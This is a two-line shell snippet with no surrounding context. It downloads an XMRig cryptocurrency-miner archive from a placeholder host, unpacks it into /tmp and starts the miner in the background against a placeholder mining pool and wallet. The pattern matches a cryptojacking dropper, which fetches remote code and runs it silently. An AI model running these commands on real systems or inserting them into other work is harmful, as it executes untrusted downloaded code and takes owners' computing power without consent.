curl -sL https://dl.example/xmrig.tgz | tar xz -C /tmp
/tmp/xmrig/xmrig -o pool.example:443 -u 44Example --tls -B
